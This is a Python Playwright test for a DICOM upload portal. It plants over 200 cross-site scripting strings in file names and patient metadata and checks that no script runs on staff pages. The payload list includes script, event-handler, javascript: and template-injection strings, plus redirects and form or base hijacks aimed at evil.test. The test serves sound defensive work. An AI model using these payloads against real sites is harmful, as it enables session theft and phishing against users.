"""File names and DICOM values that try to run as code: the browser runs none, and reports nothing blocked either."""

from dataclasses import replace

from playwright.sync_api import Page

from intake.record import Finding, Severity
from intake.states import State
from tests.browser.portal_server import PortalServer

REFUSAL = Finding("not-dicom", Severity.REJECT, "The content is not DICOM.", "Export the study anew.", "byte 128")
STARTS = ["", '"', "'", "</td>", "</title>", "</script>", "-->", "]]>", "{{", "\\", "`", "\u2028", "\u202e"]
HEARTS = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    " onmouseover=hit() x=",
    "<a href=javascript:hit()>x</a>",
    "<style>*{background:url(//evil.test)}</style>",
    "<b hx-get=/sign-in hx-trigger=load>x</b>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "{{constructor.constructor('hit()')()}}",
    "<details open ontoggle=hit()>",
    "<form action=//evil.test><button>x",
    "<base href=//evil.test>",
    "<math><mtext><img src=x onerror=hit()>",
    "%3Cscript%3Ehit()%3C/script%3E",
    "&lt;script&gt;hit()&lt;/script&gt;",
]
HOSTILE = [start + heart for start in STARTS for heart in HEARTS]


def test_two_hundred_hostile_strings_run_nowhere(portal: PortalServer, staff_page: Page) -> None:
    assert len(HOSTILE) >= 200
    sample = portal.sample()
    upload = sample.upload(HOSTILE[0], minutes_ago=0.1)
    for number, hostile in enumerate(HOSTILE):
        state = State.REJECTED if number % 2 else State.ACCEPTED
        record = sample.file(upload, hostile, state)
        findings = (REFUSAL,) if state is State.REJECTED else ()
        metadata = {"modality": hostile, hostile: hostile, "patient": {"name": hostile, "id": hostile}}
        portal.table.files[record.file_id] = replace(record, findings=findings, metadata=metadata)
    seen = "window.hits = 0; window.hit = () => { window.hits += 1; };"
    reports = "document.addEventListener('securitypolicyviolation', () => { window.hits += 1; });"
    staff_page.add_init_script(seen + reports)
    paths = ["/uploads", f"/uploads/{upload.upload_id}", "/files"]
    paths += [f"/files/{file_id}" for file_id in list(portal.table.files)[-len(HOSTILE) :: 7]]
    for path in paths:
        staff_page.goto(portal.url + path)
        assert staff_page.evaluate("window.hits") == 0, path
        assert staff_page.url == portal.url + path
